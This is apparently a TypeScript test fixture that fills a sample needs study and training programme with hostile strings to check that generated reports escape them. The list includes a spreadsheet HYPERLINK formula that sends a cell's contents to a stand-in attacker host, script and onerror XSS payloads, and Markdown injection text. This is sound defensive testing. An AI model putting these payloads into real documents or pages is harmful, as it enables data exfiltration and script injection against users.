import type {
  Framework,
  LocalizedText,
  Module,
  NeedsStudy,
  Programme,
} from '@competence-kit/schemas';
import { collectTexts } from '@competence-kit/model';
import { framework, reviewStudy, smallProgramme } from './study.js';

/**
 * Text an attacker puts into a framework or a study (issue 12): spreadsheet formulas (ASCII and
 * full-width), and every Markdown construct and line break that could add structure to a report.
 */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF20A1',
  'Line\r# injected heading\r- injected item\r| a | b |',
  'Para\u2028# heading\u2029- item\f## h2\v### h3\u0085#### h4',
  '# heading',
  '- item',
  '* item',
  '+ item',
  '1. item',
  '2) item',
  '> quote',
  '---',
  '===',
  '***',
  '    indented code',
  '```fence',
  '~~~fence',
  '| a | b |',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- comment -->',
  '**bold** __strong__ *em* _em_ ~~strike~~ `code`',
  '[link](http://evil.example) ![image](http://evil.example/x.png)',
  '[ref]: http://evil.example',
  '[ ] task',
  '<http://evil.example>',
  'visit http://evil.example or www.evil.example, mail a@evil.example',
  'back\\slash\\',
  'pipe \\| escaped',
  '&lt;b&gt; &amp; &#60;',
  'trailing two spaces  \nnext',
  'Title\n===',
  'Title\r\n---',
];

const hostile = (i: number) => HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]!;
/** A text with no markup, to render the same report with plain words in every field. */
const plain = (i: number) => `Plain${i}`;

function fill(text: LocalizedText, value: string) {
  for (const locale of Object.keys(text)) text[locale] = value;
}

/**
 * The sample framework and study (with strategy, internal review, quotes and limitations) and a
 * small programme with every text from data (titles, descriptors, the territory's name, sources,
 * session summaries, findings, free-text answers, the strategy and its goals, assessments,
 * quotes in every language, limitations, the programme's and modules' titles) replaced by
 * `text(i)`: hostile ones, or plain words for a report of the same shape.
 */
export function studyWithTexts(kind: 'hostile' | 'plain'): {
  framework: Framework;
  study: NeedsStudy;
  programme: Programme;
  modules: Module[];
} {
  const text = kind === 'hostile' ? hostile : plain;
  let i = 0;
  const fw = framework();
  for (const entry of collectTexts(fw)) fill(entry.text, text(i++));
  const s = reviewStudy(12);
  fill(s.territory.name, text(i++));
  for (const source of s.sources) {
    source.title = text(i++);
    source.publisher = text(i++);
    if (source.summary) fill(source.summary, text(i++));
  }
  for (const session of s.sessions) if (session.summary) fill(session.summary, text(i++));
  for (const finding of s.findings) fill(finding.statement, text(i++));
  for (const q of s.questionnaires)
    for (const response of q.responses)
      response.answers = response.answers.map((a) =>
        a.item === 'comment' ? { item: 'comment', value: text(i++) } : a,
      );
  s.strategy!.title = text(i++);
  s.strategy!.publisher = text(i++);
  for (const goal of s.strategy!.goals) fill(goal.title, text(i++));
  for (const entry of s.internalReview!) fill(entry.assessment, text(i++));
  for (const quote of s.quotes!)
    for (const locale of Object.keys(quote.text)) quote.text[locale] = text(i++);
  for (const limitation of s.limitations!) fill(limitation, text(i++));
  const { programme, modules } = smallProgramme();
  fill(programme.title!, text(i++));
  for (const m of modules) fill(m.title, text(i++));
  return { framework: fw, study: s, programme, modules };
}
